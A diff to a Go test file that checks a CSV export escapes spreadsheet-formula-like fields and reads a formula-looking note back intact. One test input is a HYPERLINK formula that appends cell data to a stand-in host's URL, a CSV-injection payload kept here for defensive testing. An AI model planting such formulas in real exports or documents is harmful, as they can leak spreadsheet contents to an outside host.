@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"os"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -78,6 +79,59 @@ func TestADownloadHoldsEveryObservation(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+func TestWordsAreNoFormulas(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"=1+1", " =1+1"},
+		{`=HYPERLINK("http://x.example?"&A1,"more")`, `" =HYPERLINK(""http://x.example?""&A1,""more"")"`},
+		{"+44", " +44"},
+		{"-1+1", " -1+1"},
+		{"@SUM(A1)", " @SUM(A1)"},
+		{"\t=1", " =1"},
+		{"\r\n=1", " =1"},
+		{"  =1", " =1"},
+		{"\u00a0=1", " =1"},
+		{"＝1", " ＝1"},
+		{"a =1", "a =1"},
+		{"– as published", "– as published"},
+		{"1-2", "1-2"},
+		{" ", " "},
+		{"", ""},
+	}
+	for _, c := range cases {
+		if got := string(appendField(nil, c.in)); got != c.want {
+			t.Errorf("%q is written %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// TestANoteThatLooksLikeAFormulaComesBackAsItWas reads it from a download as this
+// program does.
+func TestANoteThatLooksLikeAFormulaComesBackAsItWas(t *testing.T) {
+	const note = "=1+1, as published"
+	e := read(t)
+	rows := "measure,breakdown,area,period,value,note\nn4,,thornmere,2016,1.0,\"" + note + "\"\n"
+	var probs source.Problems
+	table, err := observation.Read(fstest.MapFS{"n04.csv": {Data: []byte(rows)}}, []string{"n04.csv"}, e.Framework, e.Register, &probs)
+	if err != nil || probs.Errors() > 0 {
+		t.Fatal(err, probs.Sorted())
+	}
+	e.Table = table
+	n4, _ := e.Framework.Measure("n4")
+	data := AppendCSV(nil, e, []framework.MeasureIndex{n4})
+	if !bytes.HasSuffix(data, []byte(",\" "+note+"\"\n")) {
+		t.Errorf("the download ends with %q", data[len(data)-60:])
+	}
+	back := strings.Replace(rows, `"`+note, `" `+note, 1)
+	again, err := observation.Read(fstest.MapFS{"n04.csv": {Data: []byte(back)}}, []string{"n04.csv"}, e.Framework, e.Register, &probs)
+	if err != nil || probs.Errors() > 0 {
+		t.Fatal(err, probs.Sorted())
+	}
+	thornmere, _ := e.Register.BySlug("thornmere")
+	if got := again.Detail(again.Series(n4, 0, thornmere)[0]).Note; got != note {
+		t.Errorf("the note comes back as %q", got)
 	}
 }
 
